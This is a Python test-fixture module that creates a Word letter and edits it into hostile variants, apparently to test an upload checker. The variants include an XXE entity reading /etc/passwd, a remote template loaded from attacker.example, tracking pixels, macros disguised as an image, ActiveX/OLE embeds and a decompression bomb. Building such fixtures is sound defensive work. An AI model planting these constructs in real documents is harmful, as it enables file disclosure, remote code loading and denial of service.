"""Word files the tests make: a small valid letter, letters with fields, hostile variants.

The letter is made with python-docx; every variant edits it with zipfile, the way
someone crafting a hostile upload would, so no hostile file is stored in the repo.
"""

import functools
import io
import os
import zipfile
from xml.sax.saxutils import escape

import docx
from docx.oxml import parse_xml

WORDPROCESSING = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT_RELATIONSHIPS = "http://schemas.microsoft.com/office/2006/relationships"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
# A DTD that reads a server file into an entity: the classic XXE.
XXE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
)


@functools.cache
def small_letter() -> bytes:
    """A valid .docx of about 36 KB, with one paragraph."""
    document = docx.Document()
    document.add_paragraph("Dear customer,")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_part(
    name: str,
    content: bytes,
    *,
    content_type: str = "",
    relationship_type: str = "",
    target: str = "",
    external: bool = False,
    relationships_part: str = DOCUMENT_RELS,
    letter: bytes | None = None,
) -> bytes:
    """The letter with one more part, declared and/or related as asked."""
    parts = members(letter or small_letter())
    if name:
        parts[name] = content
    if content_type:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>",
            f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode(),
        )
    if relationship_type:
        mode = ' TargetMode="External"' if external else ""
        relationship = (
            f'<Relationship Id="rId99" Type="{relationship_type}" '
            f'Target="{escape(target)}"{mode}/>'
        )
        existing = parts.get(
            relationships_part,
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b"</Relationships>",
        )
        parts[relationships_part] = existing.replace(
            b"</Relationships>", relationship.encode() + b"</Relationships>"
        )
    return pack(parts)


def with_relationship(
    relationship_type: str,
    target: str,
    *,
    external: bool = True,
    relationships_part: str = DOCUMENT_RELS,
) -> bytes:
    return with_part(
        "",
        b"",
        relationship_type=relationship_type,
        target=target,
        external=external,
        relationships_part=relationships_part,
    )


def external_image() -> bytes:
    """A tracking pixel: an image the letter fetches from a server when opened."""
    return with_relationship(
        f"{RELATIONSHIPS}/image", "https://tracker.example/pixel.png?letter=1"
    )


def remote_template() -> bytes:
    """settings.xml attached to a template on a server (fetched on open)."""
    parts = members(small_letter())
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rId99"/><w:zoom ', 1
    )
    return with_part(
        "",
        b"",
        relationship_type=f"{RELATIONSHIPS}/attachedTemplate",
        target="https://attacker.example/template.dotm",
        external=True,
        relationships_part="word/_rels/settings.xml.rels",
        letter=pack(parts),
    )


def hidden_macros(*, declared_by: str) -> bytes:
    """A VBA project stored as an innocent-looking image part."""
    if declared_by == "content type":
        return with_part(
            "word/media/image1.png",
            b"\xd0\xcf\x11\xe0 VBA",
            content_type="application/vnd.ms-office.vbaProject",
        )
    return with_part(
        "word/media/image1.png",
        b"\xd0\xcf\x11\xe0 VBA",
        content_type="image/png",
        relationship_type=f"{MICROSOFT_RELATIONSHIPS}/vbaProject",
        target="media/image1.png",
    )


def activex_control() -> bytes:
    return with_part(
        "word/activeX/activeX1.xml",
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
        content_type="application/vnd.ms-office.activeX+xml",
        relationship_type=f"{RELATIONSHIPS}/control",
        target="activeX/activeX1.xml",
    )


def ole_object() -> bytes:
    return with_part(
        "word/embeddings/oleObject1.bin",
        b"\xd0\xcf\x11\xe0 OLE",
        content_type="application/vnd.openxmlformats-officedocument.oleObject",
        relationship_type=f"{RELATIONSHIPS}/oleObject",
        target="embeddings/oleObject1.bin",
    )


def embedded_package() -> bytes:
    """Another Office file inside the letter, related as a package only."""
    return with_part(
        "word/embeddings/data.bin",
        small_letter(),
        content_type=(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        ),
        relationship_type=f"{RELATIONSHIPS}/package",
        target="embeddings/data.bin",
    )


def alt_chunk() -> bytes:
    return with_part(
        "word/chunk.htm",
        b"<html><body><img src='https://tracker.example/p.png'></body></html>",
        content_type="text/html",
        relationship_type=f"{RELATIONSHIPS}/aFChunk",
        target="chunk.htm",
    )


def external_frame() -> bytes:
    return with_relationship(
        f"{RELATIONSHIPS}/frame",
        "https://attacker.example/frame.html",
        relationships_part="word/_rels/webSettings.xml.rels",
    )


def address_without_external_mode() -> bytes:
    """An image 'inside' the package whose target is a web address all the same."""
    return with_relationship(
        f"{RELATIONSHIPS}/image", "http://tracker.example/p.png", external=False
    )


def external_hyperlink() -> bytes:
    """A link the reader may click: nothing is fetched when the letter opens."""
    return with_relationship(f"{RELATIONSHIPS}/hyperlink", "https://example.com/offer")


def doctype(part: str = "word/styles.xml", prolog: bytes = XXE) -> bytes:
    """An XML part with a DTD in front of its root element."""
    parts = members(small_letter())
    content = parts[part]
    root_at = content.index(b"<", content.index(b"?>") + 2)
    parts[part] = prolog + content[root_at:]
    return pack(parts)


def text_bomb(megabytes: int = 95) -> bytes:
    """A document.xml of `megabytes` of repeated paragraphs: a few hundred KB packed."""
    head, tail = _body_around(small_letter())
    paragraph = (
        b"<w:p><w:r><w:t>All work and no play makes Jack a dull boy.</w:t></w:r></w:p>"
    )
    block = paragraph * (64 * 1024 // len(paragraph))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members(small_letter()).items():
            if name != "word/document.xml":
                archive.writestr(name, content)
        with archive.open("word/document.xml", "w") as member:
            member.write(head)
            for _ in range(megabytes * 1024 * 1024 // len(block)):
                member.write(block)
            member.write(tail)
    return buffer.getvalue()


@functools.cache
def large_text_part(megabytes: int = 21) -> bytes:
    """A document.xml of `megabytes` of paragraphs that packs only about 3:1."""
    head, tail = _body_around(small_letter())
    # Four letters at random: it packs no better than real text does.
    four_letters = bytes(b"acgt"[byte % 4] for byte in range(256))
    text = os.urandom(megabytes * 1024 * 1024).translate(four_letters)
    body = b"".join(
        b"<w:p><w:r><w:t>" + text[start : start + 4096] + b"</w:t></w:r></w:p>"
        for start in range(0, len(text), 4096)
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members(small_letter()).items():
            if name != "word/document.xml":
                archive.writestr(name, content)
        archive.writestr(
            "word/document.xml",
            head + body + tail,
            compresslevel=1,  # fast; random letters pack the same either way
        )
    return buffer.getvalue()


def field(*instruction: str, result: str = "") -> str:
    """Word's complex field; a piece of the instruction may be a nested field."""
    runs = [_run('<w:fldChar w:fldCharType="begin"/>')]
    for piece in instruction:
        if piece.startswith("<"):
            runs.append(piece)
        else:
            text = escape(piece)
            runs.append(_run(f'<w:instrText xml:space="preserve">{text}</w:instrText>'))
    runs.append(_run('<w:fldChar w:fldCharType="separate"/>'))
    runs.append(_run(f"<w:t>{escape(result)}</w:t>"))
    runs.append(_run('<w:fldChar w:fldCharType="end"/>'))
    return "".join(runs)


def simple_field(instruction: str, result: str = "") -> str:
    return (
        f'<w:fldSimple w:instr="{escape(instruction)}">'
        f"{_run(f'<w:t>{escape(result)}</w:t>')}</w:fldSimple>"
    )


def letter_with(*paragraphs: str) -> bytes:
    """The small letter with these paragraphs (runs and fields) in its body."""
    head, tail = _body_around(small_letter())
    body = "".join(f"<w:p>{paragraph}</w:p>" for paragraph in paragraphs)
    parts = members(small_letter())
    parts["word/document.xml"] = head + body.encode() + tail
    return pack(parts)


def letter_with_header(*paragraphs: str) -> bytes:
    """The small letter with these paragraphs in the header of its section."""
    document = docx.Document(io.BytesIO(small_letter()))
    header = document.sections[0].header
    for paragraph in paragraphs:
        header._element.append(
            parse_xml(f'<w:p xmlns:w="{WORDPROCESSING}">{paragraph}</w:p>')
        )
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def _body_around(letter: bytes) -> tuple[bytes, bytes]:
    """document.xml up to the body's content, and from its section properties on."""
    xml = members(letter)["word/document.xml"]
    start = xml.index(b"<w:body>") + len(b"<w:body>")
    return xml[:start], xml[xml.index(b"<w:sectPr") :]
